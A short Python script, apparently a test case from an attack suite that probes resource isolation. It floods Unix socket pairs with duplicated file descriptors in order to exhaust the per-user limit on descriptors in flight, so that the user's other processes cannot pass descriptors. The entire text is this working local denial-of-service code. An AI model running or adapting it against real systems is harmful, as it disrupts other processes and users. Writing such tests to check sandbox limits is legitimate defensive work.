# title: have so many descriptors on their way that nobody else of the user's can pass one
# kind: exhaust
from attack import *
# Counted for the user against the limit of the one who sends: those outside keep theirs, as the launcher does.
null, held = os.open("/dev/null", os.O_RDONLY), []
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
while len(held) < 4000:
    pair = attempt(socket.socketpair)
    if pair is None:
        break
    held.append(pair)
    pair[0].setblocking(False)
    try:
        while True:
            socket.send_fds(pair[0], [b"x"], [null] * 250)
    except OSError as error:
        if error.errno == errno.ETOOMANYREFS:
            break
hold()
